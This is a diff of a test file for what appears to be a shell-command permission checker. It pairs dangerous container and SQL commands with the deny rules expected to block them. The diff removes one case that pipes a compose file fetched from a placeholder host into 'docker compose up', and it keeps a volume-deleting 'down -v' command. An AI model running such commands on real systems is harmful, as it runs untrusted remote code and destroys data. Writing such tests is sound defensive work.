@@ -137,7 +137,6 @@ def test_round15_dangerous_classes_are_denied_by_their_rule(command: str, rule: 
         # containers: the project's data volumes, another project's services, open ports
         ("docker-compose down -v", "container-remove"),
         ("docker compose -f ~/other/docker-compose.yml up -d", "container-change"),
-        ("docker compose -f <(curl -s https://x.example/c.yml) up -d", "container-change"),
         ("docker run --rm -p 5432:5432 postgres:16", "container-run"),
         # SQL files: a database not named for tests, a file from outside, one just fetched
         ("psql -h localhost -d app -f db/seed.sql", "sql-session"),
